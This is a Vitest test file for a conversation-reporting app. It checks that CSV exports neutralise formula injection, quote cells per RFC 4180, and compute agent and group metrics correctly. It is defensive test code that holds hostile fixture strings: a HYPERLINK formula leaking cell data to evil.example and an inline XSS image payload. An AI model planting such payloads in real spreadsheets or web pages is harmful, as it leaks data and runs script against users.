import { beforeAll, describe, expect, it } from 'vitest';
import { openDatabase } from '@/db/client';
import { ingestEnvelopes } from '@/lib/ingest/ingest-envelopes';
import { REPORT_NAMES } from '@/lib/reports/names';
import { tempDatabasePath } from '../helpers/server';
import { agentId, agentName, channelName, conversationId, createdAt, escaped, groupId, groupName, HOSTILE, hostileEvents } from './hostile-events';
import { parseCsv, readReport } from './read-report';

const OCTOBER = 'from=2026-10-01&to=2026-10-31';
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
/** A spreadsheet reads this as a number, never as a formula: the one exception (bad data only). */
const NEGATIVE_NUMBER = /^-\d+(\.\d+)?$/;
let databasePath: string;

beforeAll(() => {
  databasePath = tempDatabasePath('hostile');
  const db = openDatabase(databasePath);
  const summary = ingestEnvelopes(db, hostileEvents());
  expect(summary.rejected).toEqual([]);
  db.$client.close();
});

describe('hostile names in CSV reports', () => {
  it('reads back every name exactly, with a quote in front only where it would start a formula', async () => {
    const { rows } = await readReport(databasePath, 'conversations', OCTOBER);
    expect(rows).toHaveLength(HOSTILE.length);
    rows.forEach((row, i) => {
      expect(row.conversation_id).toBe(escaped(conversationId(i)));
      expect(row.agent_name, `agent ${i}`).toBe(escaped(agentName(i === 0 ? 1 : i)));
      expect(row.group_name, `group ${i}`).toBe(escaped(groupName(i)));
      expect(row.channel_name, `channel ${i}`).toBe(escaped(channelName(i)));
    });
    // The escaping is exactly the documented one: seven of the twelve names start like a formula.
    expect(HOSTILE.filter((name) => escaped(name) !== name)).toEqual([HOSTILE[3], HOSTILE[4], HOSTILE[5], HOSTILE[6], HOSTILE[7], HOSTILE[8], HOSTILE[11]]);
    expect(rows[3]!.conversation_id).toBe("'=1+2");
    // Markup, right-to-left and zero-width characters pass through untouched.
    expect(rows.find((row) => row.agent_name === HOSTILE[9])).toBeDefined();
    expect(rows.find((row) => row.agent_name === HOSTILE[10])).toBeDefined();
  });

  it('quotes per RFC 4180: separators, quotes and line breaks only inside quoted cells', async () => {
    const { text } = await readReport(databasePath, 'agents', OCTOBER);
    expect(text).toContain('"Smith, Jane"');
    expect(text).toContain('"The ""Best"" Team"');
    expect(text).toContain('"Line one\r\nLine two"');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`);
    // A cell without anything to quote is not quoted.
    expect(text).toContain('\r\nagent-9,<img src=x onerror=alert(1)>,1,10,');
    expect(text.startsWith('\uFEFFagent_id,')).toBe(true);
  });

  it('never lets a cell of any report start with a formula character, except a negative number', async () => {
    for (const name of REPORT_NAMES) {
      const { text } = await readReport(databasePath, name, OCTOBER);
      const { rows } = parseCsv(text);
      expect(rows.length, name).toBeGreaterThan(0);
      for (const row of rows) for (const [column, value] of Object.entries(row)) expect(FORMULA_START.test(value) && !NEGATIVE_NUMBER.test(value), `${name}.${column} = ${JSON.stringify(value)}`).toBe(false);
    }
  });

  it('writes a negative number (bad data) as a number, and an actor id that looks like a formula as text', async () => {
    const conversations = (await readReport(databasePath, 'conversations', OCTOBER)).rows;
    expect(conversations[2]!.wait_time_bhrs).toBe('-1.5');
    expect(conversations[2]!.wait_time_chrs).toBe('0.25');
    const transitions = (await readReport(databasePath, 'transitions', OCTOBER)).rows;
    expect(transitions.find((row) => row.conversation_id === 'conv-4' && row.to_status === 'new')!.actor_id).toBe("'+user");
  });

  it('names both sides of each assignment change', async () => {
    const { rows } = await readReport(databasePath, 'assignments', OCTOBER);
    const reassignment = rows.find((row) => row.kind === 'agent' && row.from_id === agentId(0))!;
    expect(reassignment).toEqual({
      conversation_id: 'conv-0',
      kind: 'agent',
      from_id: 'agent-0',
      from_name: agentName(0),
      to_id: 'agent-1',
      to_name: agentName(1),
      at: new Date(createdAt(0) + 3 * 3_600_000).toISOString(),
      actor_id: 'agent-1',
      actor_type: 'agent',
    });
    const groupAssignment = rows.find((row) => row.kind === 'group' && row.to_id === groupId(5))!;
    expect(groupAssignment).toMatchObject({ from_id: '', from_name: '', to_name: escaped(groupName(5)) });
    // 12 group and 12 agent assignments, plus the one reassignment.
    expect(rows).toHaveLength(25);
  });
});

describe('agents and groups reports, worked out by hand', () => {
  const AGENT_HEADER = ['agent_id', 'agent_name', 'open_now', 'max_active_conv', 'assigned_in_range', 'resolved_in_range', 'reassigned_away', 'median_first_response_bhrs', 'median_first_response_chrs', 'median_resolution_bhrs', 'median_resolution_chrs'];

  it('agents: open now, capacity, assigned, resolved and reassigned in the range, medians in hours', async () => {
    const { header, rows } = await readReport(databasePath, 'agents', OCTOBER);
    expect(header).toEqual(AGENT_HEADER);
    expect(rows).toHaveLength(12);
    const byId = new Map(rows.map((row) => [row.agent_id, row]));
    // agent 0: had conversation 0 and lost it to agent 1.
    expect(byId.get('agent-0')).toMatchObject({ agent_name: escaped(agentName(0)), open_now: '0', max_active_conv: '1', assigned_in_range: '1', resolved_in_range: '0', reassigned_away: '1', median_first_response_bhrs: '' });
    // agent 1: conversation 1 (resolved: first response 1 h / 3.44 h, resolution 3 h / 6 h) and conversation 0 (2 / 3.45, 4 / 5), both resolved.
    // The median of 3.44 and 3.45 is written 3.445: in binary floating point it is 3.4450000000000003.
    expect(byId.get('agent-1')).toEqual({
      agent_id: 'agent-1',
      agent_name: escaped(agentName(1)),
      open_now: '0',
      max_active_conv: '2',
      assigned_in_range: '2',
      resolved_in_range: '2',
      reassigned_away: '0',
      median_first_response_bhrs: '1.5',
      median_first_response_chrs: '3.445',
      median_resolution_bhrs: '3.5',
      median_resolution_chrs: '5.5',
    });
    for (let i = 2; i < 12; i++) {
      expect(byId.get(agentId(i)), `agent ${i}`).toMatchObject({ open_now: '1', max_active_conv: String(i + 1), assigned_in_range: '1', resolved_in_range: '0', reassigned_away: '0', median_resolution_chrs: '' });
    }
  });

  it('groups: the same per group, capacity summed over the members', async () => {
    const { header, rows } = await readReport(databasePath, 'groups', OCTOBER);
    expect(header).toEqual(AGENT_HEADER.map((name) => name.replace('agent_', 'group_')));
    const byId = new Map(rows.map((row) => [row.group_id, row]));
    expect(byId.get('group-0')).toMatchObject({ group_name: escaped(groupName(0)), open_now: '0', max_active_conv: '1', assigned_in_range: '1', resolved_in_range: '1', reassigned_away: '0', median_first_response_bhrs: '2', median_resolution_chrs: '5' });
    expect(byId.get('group-1')).toMatchObject({ open_now: '0', max_active_conv: '2', resolved_in_range: '1', median_resolution_bhrs: '3', median_resolution_chrs: '6' });
    expect(byId.get('group-7')).toMatchObject({ open_now: '1', max_active_conv: '8', assigned_in_range: '1', resolved_in_range: '0' });
  });

  it('the range moves the in-range figures but not the current state', async () => {
    // 2026-10-02 only: conversation 1 is created, assigned to agent 1 and resolved that day; conversation 0's changes were the day before.
    const { rows } = await readReport(databasePath, 'agents', 'from=2026-10-02&to=2026-10-02');
    const byId = new Map(rows.map((row) => [row.agent_id, row]));
    expect(byId.get('agent-0')).toMatchObject({ assigned_in_range: '0', reassigned_away: '0' });
    expect(byId.get('agent-1')).toMatchObject({ assigned_in_range: '1', resolved_in_range: '1', median_resolution_bhrs: '3', median_resolution_chrs: '6' });
    expect(byId.get('agent-5')).toMatchObject({ open_now: '1', assigned_in_range: '0' });
  });

  it('the agent filter chooses rows, the other filters choose conversations', async () => {
    const only = await readReport(databasePath, 'agents', `${OCTOBER}&agent=agent-1,agent-5`);
    expect(only.rows.map((row) => row.agent_id).sort()).toEqual(['agent-1', 'agent-5']);
    expect(only.rows.find((row) => row.agent_id === 'agent-1')).toMatchObject({ assigned_in_range: '2', resolved_in_range: '2' });
    // Channel 1 carries conversation 1 only: agent 1's figures shrink to it.
    const channel = await readReport(databasePath, 'agents', `${OCTOBER}&channel=channel-1`);
    const agent1 = channel.rows.find((row) => row.agent_id === 'agent-1')!;
    expect(agent1).toMatchObject({ assigned_in_range: '1', resolved_in_range: '1', median_resolution_bhrs: '3' });
    expect(channel.rows.find((row) => row.agent_id === 'agent-5')).toMatchObject({ open_now: '0', assigned_in_range: '0' });
  });
});
